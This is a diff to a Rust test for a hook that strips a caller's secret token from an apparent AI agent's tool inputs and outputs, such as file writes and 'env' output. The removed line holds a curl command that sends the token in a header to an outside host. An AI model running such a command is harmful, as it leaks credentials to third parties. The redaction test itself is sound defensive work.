@@ -164,9 +164,13 @@ async fn nobody_is_answered_without_a_token() {
 async fn the_callers_token_goes_nowhere() {
     let harness = start().await;
     let token = harness.token().to_owned();
-    let (_, said) = tell(&harness, &pre(&format!("curl -H 'x-mine: {token}' http://a.example"), "t1")).await;
-    let updated = said["hookSpecificOutput"]["updatedInput"]["command"].as_str().unwrap();
-    assert!(updated.starts_with("curl -H 'x-mine: ") && !updated.contains(&token), "{updated}");
+    let event = json!({"hook_event_name": "PreToolUse", "session_id": "s1", "tool_name": "Write", "tool_use_id": "t0",
+        "tool_input": {"file_path": "/a", "content": format!("mine: {token}")}});
+    let (_, said) = tell(&harness, &event).await;
+    let updated = said["hookSpecificOutput"]["updatedInput"]["content"].as_str().unwrap();
+    assert!(updated.starts_with("mine: ") && !updated.contains(&token), "{updated}");
+    let (_, said) = tell(&harness, &pre("env", "t1")).await;
+    assert_eq!(said, json!({}));
     let (_, said) = tell(&harness, &post("env", &format!("HOME=/\nMINE={token}"), "t1")).await;
     let updated = said["hookSpecificOutput"]["updatedToolOutput"]["stdout"].as_str().unwrap();
     assert!(updated.starts_with("HOME=/\nMINE=") && !updated.contains(&token), "{updated}");
